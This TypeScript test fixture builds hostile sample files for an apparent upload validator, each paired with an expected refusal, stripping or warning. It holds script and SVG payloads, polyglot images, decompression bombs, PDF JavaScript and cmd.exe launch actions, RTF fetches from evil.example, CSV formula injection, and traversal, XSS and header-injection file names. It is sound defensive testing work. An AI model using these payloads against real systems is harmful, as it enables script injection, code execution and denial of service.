import { deflateSync } from "node:zlib";
import type { FileTrouble, FileWarning } from "../../shared/schemas/file.ts";
import { aBmp } from "./bmp.ts";
import { aFilm, placeNote } from "./boxes.ts";
import { bytes, u32 } from "./bytes.ts";
import { anIcs, anRtf, aPdf, aVcard, words } from "./documents.ts";
import { aGif, comment } from "./gif.ts";
import { aJpeg, cameraNote, segment } from "./jpeg.ts";
import { aPng, chunk } from "./png.ts";
import type { Sample } from "./samples.ts";
import { anMp3, anOgg } from "./sounds.ts";

/** What has to come of it: it is refused, or kept without what must not stay, or kept with a warning. */
export type Outcome = { refused: FileTrouble } | { without: string } | { warned: FileWarning };

export type Hostile = Sample & { what: string; outcome: Outcome };

/** In a page it would run at once. */
export const SCRIPT = "<script>document.title='RAN';fetch('/ran')</script>";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='RAN'">${SCRIPT}</svg>`;
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;

export function hostiles(): Hostile[] {
	return [...inDisguise(), ...withMore(), ...bombs(), ...documents(), ...private_(), ...oddNames()];
}

function hostile(what: string, name: string, contentType: string, content: Uint8Array<ArrayBuffer>, outcome: Outcome): Hostile {
	return { what, name, contentType, bytes: content, outcome };
}

function inDisguise(): Hostile[] {
	const refused = { refused: "mismatch" } as const;
	return [
		hostile("a page that calls itself a picture", "photo.jpg", "image/jpeg", words(HTML), refused),
		hostile("a drawing with a script that calls itself a picture", "photo.png", "image/png", words(SVG), refused),
		hostile("a drawing that says what it is", "photo.svg", "image/svg+xml", words(SVG), { refused: "type" }),
		hostile("a page that says what it is", "page.html", "text/html", words(HTML), { refused: "type" }),
		hostile("a page in a table", "table.csv", "text/csv", words(HTML), refused),
		hostile("a script in a table", "table.csv", "text/csv", words(`name,day\r\n"${SCRIPT}",2\r\n`), refused),
		hostile("a drawing in a calendar", "visit.ics", "text/calendar", anIcs(`DESCRIPTION:${SVG}\r\n`), { refused: "active" }),
		hostile("a script in a contact", "me.vcf", "text/vcard", aVcard(`NOTE:${SCRIPT}\r\n`), { refused: "active" }),
		hostile("a program", "photo.jpg.exe", "image/jpeg", bytes("MZ", Array(200).fill(0)), { refused: "type" }),
		hostile("a program that calls itself a picture", "photo.jpg", "image/jpeg", bytes("MZ", Array(200).fill(0)), refused),
		hostile("a picture under another's name", "photo.gif", "image/gif", aPng(), refused),
		hostile("a picture declared as another", "photo.png", "image/jpeg", aPng(), refused),
		hostile("a ZIP under a document's name", "form.pdf", "application/pdf", bytes("PK\x03\x04", Array(100).fill(0)), refused),
		hostile("the file that scanners are tried out with", "note.csv", "text/csv", trialVirus(), { refused: "harmful" }),
	];
}

function trialVirus(): Uint8Array<ArrayBuffer> {
	return words(["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join(""));
}

/** Two files in one. */
function withMore(): Hostile[] {
	return [
		hostile("a page behind a JPEG", "photo.jpg", "image/jpeg", bytes(aJpeg(), HTML), { without: "<script" }),
		hostile("a page in a JPEG's comment", "photo.jpg", "image/jpeg", aJpeg({ notes: [segment(0xfe, words(HTML))] }), {
			without: "<script",
		}),
		hostile("a ZIP behind a PNG", "photo.png", "image/png", bytes(aPng(), "PK\x03\x04 CANARY"), { without: "CANARY" }),
		hostile("a page in a PNG's words", "photo.png", "image/png", aPng({ chunks: [chunk("tEXt", words(`Title\0${HTML}`))] }), {
			without: "<script",
		}),
		hostile("a page in a GIF's comment", "photo.gif", "image/gif", aGif({ blocks: [comment(SCRIPT)] }), { without: "<script" }),
		hostile("a page behind a GIF", "photo.gif", "image/gif", bytes(aGif(), HTML), { without: "<script" }),
		hostile("a page behind a BMP", "photo.bmp", "image/bmp", aBmp({ more: HTML }), { refused: "broken" }),
		hostile("a page behind a film", "knee.mp4", "video/mp4", bytes(aFilm("isom"), HTML), { refused: "broken" }),
		hostile("a page behind a sound", "cough.mp3", "audio/mpeg", anMp3({ after: HTML }), { refused: "broken" }),
		hostile("a page behind an Ogg sound", "note.ogg", "audio/ogg", bytes(anOgg(), HTML), { refused: "broken" }),
		hostile("a page behind a PDF", "visit.pdf", "application/pdf", aPdf({ after: HTML }), { refused: "broken" }),
		hostile("a page before a PDF", "visit.pdf", "application/pdf", bytes(HTML, aPdf()), { refused: "mismatch" }),
		hostile("a script behind a letter", "letter.rtf", "application/rtf", bytes(anRtf(), SCRIPT), { refused: "broken" }),
		hostile("half a picture", "photo.jpg", "image/jpeg", aJpeg().slice(0, -40), { refused: "broken" }),
		hostile("nothing", "photo.jpg", "image/jpeg", bytes(), { refused: "empty" }),
	];
}

/** Small here, very large when they are opened. */
function bombs(): Hostile[] {
	const huge = { refused: "dimensions" } as const;
	const black = deflateSync(new Uint8Array(4_000_000), { level: 9 });
	return [
		hostile("a PNG of 30,000 by 30,000 points", "photo.png", "image/png", aPng({ width: 30_000, height: 30_000, image: black }), huge),
		hostile("a JPEG of 60,000 by 60,000 points", "photo.jpg", "image/jpeg", aJpegSaying(60_000, 60_000), huge),
		hostile("a GIF of 65,535 by 65,535 points", "photo.gif", "image/gif", aGif({ width: 65_535, height: 65_535 }), huge),
		hostile("a GIF of 600 frames", "photo.gif", "image/gif", aGif({ frames: 600 }), huge),
		hostile("a BMP of 90,000 by 90,000 points", "photo.bmp", "image/bmp", aBmp({ width: 90_000, height: 90_000 }), huge),
		hostile("a letter of 100,000 braces", "letter.rtf", "application/rtf", anRtf("{".repeat(100_000) + "}".repeat(100_000)), {
			refused: "broken",
		}),
		hostile("a film whose box is longer than the film", "knee.mp4", "video/mp4", bytes(aFilm("isom"), u32(0x7fffffff), "free"), {
			refused: "broken",
		}),
	];
}

/** Small, but says of itself that it is not. */
function aJpegSaying(width: number, height: number): Uint8Array<ArrayBuffer> {
	const small = aJpeg();
	const at = small.findIndex((byte, n) => byte === 0xff && small[n + 1] === 0xc0);
	small.set([height >> 8, height & 255, width >> 8, width & 255], at + 5);
	return small;
}

function documents(): Hostile[] {
	const script = "6 0 R";
	const run = "<< /S /JavaScript /JS (app.alert\\('RAN'\\)) >>";
	return [
		hostile("a PDF with a script", "visit.pdf", "application/pdf", aPdf({ catalogue: `/OpenAction ${script}`, objects: [run] }), {
			warned: "scripts",
		}),
		hostile(
			"a PDF that spells its script in numbers",
			"visit.pdf",
			"application/pdf",
			aPdf({ objects: [run.replace("/JavaScript", "/J#61vaScript").replace("/JS", "/#4aS")] }),
			{ warned: "scripts" },
		),
		hostile("a PDF that starts a program", "visit.pdf", "application/pdf", aPdf({ objects: ["<< /S /Launch /F (cmd.exe) >>"] }), {
			refused: "active",
		}),
		hostile("a PDF with another file in it", "visit.pdf", "application/pdf", aPdf({ objects: ["<< /Type /EmbeddedFile >>"] }), {
			refused: "active",
		}),
		hostile("a letter with a program in it", "letter.rtf", "application/rtf", anRtf("{\\object\\objemb{\\*\\objdata 0105}}"), {
			refused: "active",
		}),
		hostile("a letter whose form lies elsewhere", "letter.rtf", "application/rtf", anRtf("{\\*\\template https://evil.example/t.dotm}"), {
			refused: "active",
		}),
		hostile(
			"a letter that gets its pictures elsewhere",
			"letter.rtf",
			"application/rtf",
			anRtf('{\\field{\\*\\fldinst INCLUDEPICTURE "https://evil.example/p"}}'),
			{ refused: "active" },
		),
		hostile("a table that calls a program", "table.csv", "text/csv", words("name,day\r\n=cmd|' /C calc'!A0,2\r\n"), { warned: "formulas" }),
		hostile("a table that asks elsewhere", "table.csv", "text/csv", words('name\r\n"@SUM(1+1)*cmd|x"\r\n'), { warned: "formulas" }),
		hostile("a table with a wide sign", "table.csv", "text/csv", words("name\r\n\uff1dHYPERLINK(1)\r\n"), { warned: "formulas" }),
		hostile("a table with a nought in it", "table.csv", "text/csv", words("name\0,day\r\n"), { refused: "mismatch" }),
	];
}

function private_(): Hostile[] {
	return [
		hostile("a photo that says where it was taken", "rash.jpg", "image/jpeg", aJpeg({ notes: [cameraNote()] }), { without: "CANARY" }),
		hostile(
			"a photo with a longer note",
			"rash.jpg",
			"image/jpeg",
			aJpeg({ notes: [segment(0xe1, words("http://ns.adobe.com/xap/1.0/\0 GPS CANARY"))] }),
			{ without: "CANARY" },
		),
		hostile("a picture with a camera's note", "card.png", "image/png", aPng({ chunks: [chunk("eXIf", words("II*\0 CANARY"))] }), {
			without: "CANARY",
		}),
		hostile("a film that says where it was made", "knee.mp4", "video/mp4", aFilm("mp42", { notes: [placeNote()] }), { without: "CANARY" }),
		hostile("a film of an old phone that says where it was made", "gait.3gp", "video/3gpp", aFilm("3gp5", { notes: [placeNote()] }), {
			without: "CANARY",
		}),
	];
}

/** What is in them is good: it is the name that is not. */
function oddNames(): Hostile[] {
	const sound = { without: "CANARY" } as const;
	return [
		hostile("a name that climbs", "../../etc/CANARY/photo.png", "image/png", aPng(), sound),
		hostile("a name that is read backwards", "photo\u202egnp.png", "image/png", aPng(), sound),
		hostile("a name with an end in its middle", "photo.png\0.html", "image/png", aPng(), { refused: "type" }),
		hostile("a name that is markup", `"><img src=x onerror=alert(1)>.png`, "image/png", aPng(), sound),
		hostile("a name with a line break", "photo\r\nSet-Cookie: a=b.png", "image/png", aPng(), sound),
		hostile("a name of a thousand letters", `${"n".repeat(240)}.png`, "image/png", aPng(), sound),
		hostile("a name without an extension", "photo", "image/png", aPng(), { refused: "type" }),
	];
}
